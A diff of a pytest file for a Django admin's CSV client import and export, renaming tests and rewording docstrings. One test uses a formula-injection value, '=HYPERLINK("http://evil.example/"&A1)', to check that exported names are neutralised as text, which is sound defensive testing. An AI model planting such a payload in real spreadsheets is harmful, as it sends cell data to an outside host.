@@ -1,4 +1,4 @@
-"""Clients from a CSV file and into one."""
+"""Import and export of clients as CSV in the admin."""
 
 from collections.abc import Callable, Iterator
 from datetime import timedelta
@@ -54,7 +54,7 @@ def imported() -> dict[str, tuple[str, str, str]]:
     return {key: (name, plan or "", status) for key, name, plan, status in found}
 
 
-def test_a_file_is_shown_before_it_is_imported_and_then_live(desk: Desk, shop: Platform) -> None:
+def test_a_file_is_previewed_then_imported_and_live(desk: Desk, shop: Platform) -> None:
     page = upload(desk, FILE)
     row = page.response.context["row"]
     assert (row.state, row.lines, row.added, row.changed, row.unchanged) == ("checked", 2, 1, 1, 0)
@@ -68,14 +68,14 @@ def test_a_file_is_shown_before_it_is_imported_and_then_live(desk: Desk, shop: P
     assert ClientImport.objects.get().content == ""
 
 
-def test_the_import_is_in_the_history_of_each_client(desk: Desk) -> None:
+def test_the_history_of_each_client_contains_the_import(desk: Desk) -> None:
     upload(desk, FILE)
     run(desk)
     for record in (Client.objects.get(key="acme").history.first(), Client.objects.get(key="globex").history.first()):
         assert (record.history_user.username, record.history_change_reason) == ("ada", "The contract list.")
 
 
-def test_a_second_time_changes_nothing(desk: Desk) -> None:
+def test_a_repeated_import_changes_nothing(desk: Desk) -> None:
     for _ in range(2):
         page = upload(desk, FILE)
         run(desk)
@@ -92,20 +92,20 @@ def test_a_second_time_changes_nothing(desk: Desk) -> None:
         ("key,status\nacme,exempt", ("", "", "exempt")),
     ],
 )
-def test_spreadsheets_write_in_many_ways(desk: Desk, content: str, client: tuple[str, str, str]) -> None:
+def test_formats_of_spreadsheets_are_imported(desk: Desk, content: str, client: tuple[str, str, str]) -> None:
     upload(desk, content)
     run(desk)
     assert imported() == {"acme": client}
 
 
-def test_a_column_that_is_missing_leaves_what_is_there(desk: Desk) -> None:
+def test_a_missing_column_keeps_the_existing_values(desk: Desk) -> None:
     Client.objects.update(name="Acme Ltd", status="blocked", plan=Client.objects.get().plan)
     upload(desk, "key,plan\nacme,pro\n")
     run(desk)
     assert imported() == {"acme": ("Acme Ltd", "pro", "blocked")}
 
 
-def test_wrong_lines_are_named_and_nothing_is_imported(desk: Desk) -> None:
+def test_invalid_lines_are_reported_and_nothing_is_imported(desk: Desk) -> None:
     page = upload(
         desk,
         "key,name,plan,status\nok,Fine,pro,active\n,No key,,\nok,Twice,,\na,A,gold,\nb,B,,gone\nc,C\nd,\x07,,\n"
@@ -140,7 +140,7 @@ def test_wrong_lines_are_named_and_nothing_is_imported(desk: Desk) -> None:
         ("key,key\nacme,acme\n", "names a column twice"),
     ],
 )
-def test_a_file_with_another_first_line_is_refused(desk: Desk, content: str, message: str) -> None:
+def test_a_file_with_an_invalid_first_line_is_rejected(desk: Desk, content: str, message: str) -> None:
     assert message in upload(desk, content).text
 
 
@@ -153,7 +153,7 @@ def test_a_file_with_another_first_line_is_refused(desk: Desk, content: str, mes
         (FILE, "", "why", "required"),
     ],
 )
-def test_what_is_no_file_of_text_is_refused_at_its_field(
+def test_an_invalid_file_or_reason_is_reported_at_its_field(
     desk: Desk, content: str | bytes, why: str, field: str, message: str
 ) -> None:
     page = upload(desk, content, why)
@@ -161,21 +161,21 @@ def test_what_is_no_file_of_text_is_refused_at_its_field(
     assert not ClientImport.objects.exists()
 
 
-def test_a_file_that_is_too_large_is_refused(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_file_that_is_too_large_is_rejected(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(pages, "MAX_FILE_BYTES", 10)
     assert "larger than 64 MB" in upload(desk, FILE).response.context["form"].errors["file"][0]
 
 
 @pytest.fixture
 def queue(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[], int]]:
-    """Every file counts as large; returns how many tasks wait in the broker."""
+    """Treats every file as large. Returns a function for the number of tasks that wait in the broker."""
     monkeypatch.setattr(pages, "MAX_SYNCHRONOUS_BYTES", 10)
     with current_app.connection_for_read() as broker:
         broker.default_channel.queue_purge("celery")
         yield lambda: broker.default_channel.client.llen("celery")
 
 
-def test_a_large_file_goes_to_the_worker_and_shows_its_progress(
+def test_a_large_file_is_imported_by_a_worker_with_progress(
     desk: Desk, queue: Callable[[], int], shop: Platform
 ) -> None:
     page = upload(desk, FILE)
@@ -193,12 +193,12 @@ def test_a_large_file_goes_to_the_worker_and_shows_its_progress(
 
 
 def leased(seconds: float) -> ClientImport:
-    """The import as a process left it whose lease ends in so many seconds."""
+    """Sets the import's lease to end in this many seconds, as left by another process."""
     ClientImport.objects.update(leased_until=timezone.now() + timedelta(seconds=seconds))
     return ClientImport.objects.get()
 
 
-def test_one_process_works_on_an_import_at_a_time(desk: Desk, queue: Callable[[], int]) -> None:
+def test_an_import_is_processed_by_one_process_at_a_time(desk: Desk, queue: Callable[[], int]) -> None:
     upload(desk, FILE)
     row = leased(60)
     assert unclaimed_imports() == []
@@ -206,7 +206,7 @@ def test_one_process_works_on_an_import_at_a_time(desk: Desk, queue: Callable[[]
     assert ClientImport.objects.get().state == "checking"
 
 
-def test_an_import_whose_worker_died_is_continued(desk: Desk, queue: Callable[[], int]) -> None:
+def test_an_import_of_a_killed_worker_is_continued(desk: Desk, queue: Callable[[], int]) -> None:
     upload(desk, FILE)
     row = leased(-1)
     assert unclaimed_imports() == [row.pk]
@@ -217,7 +217,9 @@ def test_an_import_whose_worker_died_is_continued(desk: Desk, queue: Callable[[]
     assert unclaimed_imports() == []
 
 
-def test_an_import_that_kills_its_workers_fails_and_can_be_tried_again(desk: Desk, queue: Callable[[], int]) -> None:
+def test_an_import_that_repeatedly_kills_its_workers_fails_and_can_be_retried(
+    desk: Desk, queue: Callable[[], int]
+) -> None:
     upload(desk, FILE)
     ClientImport.objects.update(interruptions=MAX_INTERRUPTIONS)
     assert continue_import(leased(-1).pk, 60.0)
@@ -232,8 +234,8 @@ def test_an_import_that_kills_its_workers_fails_and_can_be_tried_again(desk: Des
     assert (row.state, row.added, row.changed) == ("checked", 1, 1)
 
 
-def test_an_unexpected_error_ends_an_import_and_the_page_says_so(desk: Desk, queue: Callable[[], int]) -> None:
-    """A file that a database made by an older release would hold: nothing of this release writes one."""
+def test_an_unexpected_error_ends_an_import_and_is_shown(desk: Desk, queue: Callable[[], int]) -> None:
+    """A value as in a database of an older release; this release never writes it."""
     upload(desk, FILE)
     ClientImport.objects.update(examples="no list")
     row = ClientImport.objects.get()
@@ -243,7 +245,7 @@ def test_an_unexpected_error_ends_an_import_and_the_page_says_so(desk: Desk, que
     assert "unexpected error" in desk.open(reverse("admin:limits_clientimport_change", args=[row.pk])).text
 
 
-def test_a_check_does_not_write_the_file_again(desk: Desk, queue: Callable[[], int]) -> None:
+def test_checking_a_file_does_not_rewrite_its_content(desk: Desk, queue: Callable[[], int]) -> None:
     upload(desk, "key\n" + "".join(f"key-{number}\n" for number in range(2 * CHUNK_SIZE)))
     row = ClientImport.objects.get()
     with CaptureQueriesContext(connection) as queries:
@@ -266,7 +268,7 @@ def test_an_import_reads_the_file_once(desk: Desk, queue: Callable[[], int], mon
     assert len(reading) == 1
 
 
-def test_a_long_import_goes_on_where_it_stopped(desk: Desk, queue: Callable[[], int]) -> None:
+def test_a_long_import_continues_where_it_stopped(desk: Desk, queue: Callable[[], int]) -> None:
     lines = [f"key-{number}\n" for number in range(2 * CHUNK_SIZE + 5)]
     upload(desk, "key\n" + "".join([*lines, "key-3\n"]))
     row = ClientImport.objects.get()
@@ -285,13 +287,13 @@ def test_a_long_import_goes_on_where_it_stopped(desk: Desk, queue: Callable[[], 
     assert Client.objects.count() == 2 * CHUNK_SIZE + 6
 
 
-def test_two_people_begin_an_import_once(desk: Desk) -> None:
+def test_an_import_can_be_started_only_once(desk: Desk) -> None:
     upload(desk, FILE)
     row = ClientImport.objects.get()
     assert [begin_import(row), begin_import(row)] == [True, False]
 
 
-def test_an_export_is_a_file_that_can_be_imported_again(desk: Desk) -> None:
+def test_an_export_can_be_imported_again(desk: Desk) -> None:
     rows.client('a,"b"', name="Comma, Inc\u2028", plan=None, status="exempt")
     answer = desk.client.get(reverse("admin:limits_client_export_clients"))
     content = b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]
@@ -300,7 +302,7 @@ def test_an_export_is_a_file_that_can_be_imported_again(desk: Desk) -> None:
     assert upload(desk, content).response.context["row"].unchanged == 2
 
 
-def test_a_name_that_reads_like_a_formula_is_exported_as_text_and_comes_back(desk: Desk) -> None:
+def test_a_name_like_a_formula_is_exported_as_text_and_can_be_imported(desk: Desk) -> None:
     rows.client("=1+1", name='=HYPERLINK("http://evil.example/"&A1)')
     rows.client("two\u2028lines", name="a\u2029b")
     answer = desk.client.get(reverse("admin:limits_client_export_clients"))
@@ -318,13 +320,13 @@ def test_spaces_around_a_key_are_reported_before_anything_is_imported(desk: Desk
     assert "not the same client as the key without spaces" in page.text
 
 
-def test_a_file_of_utf_16_is_read(desk: Desk) -> None:
+def test_a_file_in_utf_16_is_read(desk: Desk) -> None:
     upload(desk, "key\tname\nacme\tÜrün\n".encode("utf-16"))
     run(desk)
     assert imported() == {"acme": ("Ürün", "", "active")}
 
 
-def test_an_export_can_be_of_one_plan_or_status(desk: Desk) -> None:
+def test_an_export_can_be_filtered_by_plan_or_status(desk: Desk) -> None:
     rows.client("globex", status="blocked")
     answer = desk.client.get(reverse("admin:limits_client_export_clients"), {"status": "blocked"})
     assert b"".join(answer.streaming_content).decode().split("\r\n")[1:] == ["globex,,,blocked", ""]  # type: ignore[attr-defined]
